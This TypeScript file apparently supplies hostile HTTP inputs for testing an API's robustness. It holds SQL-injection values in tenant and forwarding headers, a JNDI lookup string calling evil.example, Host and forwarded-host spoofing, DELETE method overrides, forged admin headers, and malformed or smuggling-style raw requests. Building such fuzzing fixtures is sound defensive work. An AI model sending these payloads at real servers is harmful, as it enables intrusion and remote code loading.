import type { OutgoingHttpHeaders } from 'node:http';
import type { HostileClass } from './hostile-class.ts';
import { hostileHeaders } from './hostile.ts';

const never = true as const;
const each = (list: OutgoingHttpHeaders[]) => list.map((headers) => ({ headers }));
const named = (name: string) => hostileHeaders.filter((headers) => name in headers);
const credentials = [...named('x-api-key'), ...named('authorization')];
const others = hostileHeaders.filter((headers) => !credentials.includes(headers) && !('x-tenant-id' in headers));

const lots = (count: number, value: string): OutgoingHttpHeaders =>
  Object.fromEntries(Array.from({ length: count }, (_, i) => [`x-${i}`, value]));

/** Bytes that no client of Node's would send; `{line}` is a good request line, `{fields}` those of the credentials. */
const raws = [
  '{line} HTTP/1.1\r\nHost: x\r\nX-Odd: a\u0001b\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\r\nHost: x\r\nX-Odd: a\u0000b\r\n{fields}\r\n\r\n',
  '{line}\u0000 HTTP/1.1\r\nHost: x\r\n{fields}\r\n\r\n',
  '{line} a b HTTP/1.1\r\nHost: x\r\n{fields}\r\n\r\n',
  '{line} HTTP/9.9\r\nHost: x\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.0\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\r\nHost: x\r\nHost: y\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\nHost: x\n{fields}\n\n',
  '{line} HTTP/1.1\r\nHost: x\r\nNo colon\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\r\nHost: x\r\nX-Odd : a\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\r\nHost: x\r\nX-Odd: a\r\n b\r\n{fields}\r\n\r\n',
  '{line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n{fields}\r\n\r\n{"a":',
  '{line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n{fields}\r\n\r\n{}',
  '{line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1e3\r\n{fields}\r\n\r\n{}',
  '{line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n{fields}\r\n\r\n5\r\n{"a"',
  '{line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n{fields}\r\n\r\nzz\r\n',
  '{line} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip, chunked\r\n{fields}\r\n\r\n0\r\n\r\n',
  'brew{line} HTTP/1.1\r\nHost: x\r\n{fields}\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];

export const headerClasses: HostileClass[] = [
  {
    name: 'an X-Tenant-ID that is none',
    never,
    of: ({ namesTenant, places: { own } }) => {
      const id = own['tenant_id'] ?? '';
      const twins = [`0${id}`, `+${id}`, `${id}.0`, `${id}e0`, `${id},${id}`, `${id} or 1=1`, `0x${id}`];
      return namesTenant
        ? each([...named('x-tenant-id'), ...[...twins, [`${id}`, `${id}`]].map((value) => ({ 'x-tenant-id': value }))])
        : [];
    },
  },
  {
    name: 'an Idempotency-Key that is none',
    never,
    of: ({ keepsAnswers }) =>
      keepsAnswers
        ? each(
            ['', ' ', 'a b', 'x'.repeat(256), 'x'.repeat(8_000), '\u00e9', 'a\u0080', ['a', 'b']].map((value) => ({
              'idempotency-key': value,
            })),
          )
        : [],
  },
  { name: 'other credentials, or two kinds at once', of: () => each(credentials) },
  {
    name: 'headers that some server believes',
    of: () =>
      each([
        { 'x-http-method-override': 'DELETE' },
        { 'x-method-override': 'DELETE', 'x-http-method': 'DELETE' },
        { 'x-original-url': '/api/v1/me', 'x-rewrite-url': '/api/v1/me' },
        { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'gopher', 'x-forwarded-prefix': '/../' },
        { 'x-forwarded-for': `${'1.2.3.4, '.repeat(500)}::1` },
        { 'x-forwarded-for': "127.0.0.1' or 1=1", 'x-real-ip': '127.0.0.1', 'true-client-ip': '127.0.0.1' },
        { host: 'evil.example:99999' },
        { host: '' },
        { host: "a'b<c>" },
        { origin: 'null' },
        { origin: 'http://evil.example\u00ff' },
        { 'x-tenant-id': '', 'x-user-id': '1', 'x-role': 'owner', 'x-admin': 'true' },
      ]),
  },
  {
    name: 'headers of odd content, number or length',
    of: () =>
      each([
        ...others,
        lots(500, 'a'),
        { 'x-long': 'x'.repeat(12_000) },
        { cookie: `a=${'x'.repeat(8_000)}` },
        { accept: 'x/'.repeat(2_000) },
        { accept: 'text/html;q=2', 'accept-language': '*'.repeat(1_000), 'accept-charset': 'x' },
        { 'user-agent': '${jndi:ldap://evil.example/a}' },
        { 'x-request-id': ['a', 'b'] },
        { 'if-match': '"a"', 'if-modified-since': 'Thu, 32 Foo 2026 99:99:99 GMT', 'if-range': 'x' },
        { traceparent: '00-ffffffffffffffffffffffffffffffff-0000000000000000-zz', tracestate: '=' },
        { upgrade: 'websocket', connection: 'upgrade', 'sec-websocket-key': 'x' },
        { upgrade: 'h2c', connection: 'upgrade, http2-settings', 'http2-settings': 'x' },
        { te: 'trailers, deflate' },
        { expect: 'a-miracle' },
        { 'max-forwards': '-1', via: '1.1 '.repeat(500) },
      ]),
  },
  {
    name: 'bytes that are no HTTP',
    of: ({ method, path }) =>
      raws.map((text) => ({ raw: text.replace('{line}', `${method} ${path}`), leaves: /{"a"/.test(text) })),
  },
];
